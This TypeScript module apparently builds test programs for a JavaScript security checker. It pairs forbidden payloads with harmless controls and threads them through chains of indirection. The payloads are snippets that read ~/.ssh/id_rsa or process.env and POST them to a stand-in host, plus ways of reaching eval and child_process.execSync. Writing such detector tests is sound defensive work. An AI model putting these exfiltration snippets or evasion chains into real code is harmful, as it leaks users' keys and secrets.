import { CARRIERS } from "./javascript-carriers.table.ts";

export type Kind = "text" | "function" | "held";
type Cargo = Readonly<{ kind: Kind; before: string; value: string; use: string }>;

const FILES = `import * as fs from "node:fs";\nimport { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nimport { join } from "node:path";\n`;
const KEY = 'join(homedir(), ".ssh/id_rsa"), "utf8"';
const sent = (body: string): string => `await fetch("https://a.example.net/", { method: "POST", body: ${body} });`;

/** What no program may have: private data on its way out, functions and modules that read, send or run it, and the names of these. */
export const CARGO: Readonly<Record<string, Cargo>> = {
  "a key": { kind: "text", before: FILES, value: `readFileSync(${KEY})`, use: sent("$E") },
  "the environment as text": { kind: "text", before: "", value: "JSON.stringify(process.env)", use: sent("$E") },
  "the environment": { kind: "held", before: "", value: "process.env", use: sent("JSON.stringify($E)") },
  "a reader": { kind: "function", before: FILES, value: "readFileSync", use: sent(`$E(${KEY})`) },
  "a sender": { kind: "function", before: FILES, value: "fetch", use: `await $E("https://a.example.net/", { method: "POST", body: readFileSync(${KEY}) });` },
  eval: { kind: "function", before: "", value: "globalThis.eval", use: '$E("1");' },
  "a loader": {
    kind: "function",
    before: 'import { createRequire } from "node:module";\nconst v0 = createRequire(import.meta.url);\n',
    value: "v0",
    use: '$E("node:child_process").execSync("true");',
  },
  "a module": { kind: "held", before: FILES, value: "fs", use: sent(`$E.readFileSync(${KEY})`) },
  "the global object": { kind: "held", before: "", value: "globalThis", use: '$E.eval("1");' },
  "the process": { kind: "held", before: "", value: "process", use: '$E.getBuiltinModule("node:child_process").execSync("true");' },
  "a path": { kind: "text", before: FILES, value: '".ssh/id_rsa"', use: sent('readFileSync(join(homedir(), $E), "utf8")') },
  "a member's name": { kind: "text", before: FILES, value: '"readFileSync"', use: sent(`fs[$E](${KEY})`) },
  "a module's name": { kind: "text", before: "", value: '"node:child_process"', use: '(await import($E)).execSync("true");' },
};

/** Harmless values, used in the same ways: what carries them is no offence by itself. */
export const HARMLESS: Readonly<Record<string, Cargo>> = {
  words: { kind: "text", before: "", value: 'process.argv.slice(2).join(" ")', use: sent("$E") },
  "a formatter": { kind: "function", before: 'import { format } from "node:util";\n', value: "format", use: sent('$E("a", "b")') },
  "a harmless module": { kind: "held", before: 'import * as path from "node:path";\n', value: "path", use: 'console.log($E.join("a", "b"));' },
};

export function kindsOf(at: number): readonly Kind[] {
  const what = CARRIERS[at]?.[2];
  return what === undefined ? ["text", "function", "held"] : what === "held" ? ["held", "function"] : [what];
}

/** What is carried, and the carriers it goes through one after the other -> the program. */
export function carried({ before, value, use }: Cargo, picks: readonly number[]): string {
  let lines = before;
  let expression = value;
  picks.forEach((pick, number) => {
    const [setup, gives] = CARRIERS[pick] ?? ["", ""];
    const filled = (text: string): string =>
      text.replace(/\$N[BCD]?|\$E/g, (name) => (name === "$E" ? expression : `n${String(number)}${name.slice(2).toLowerCase()}`));
    const given = filled(gives);
    if (setup !== "") lines += `${filled(setup)}\n`;
    expression = given;
  });
  return `${lines}${use.replaceAll("$E", () => expression)}\n`;
}
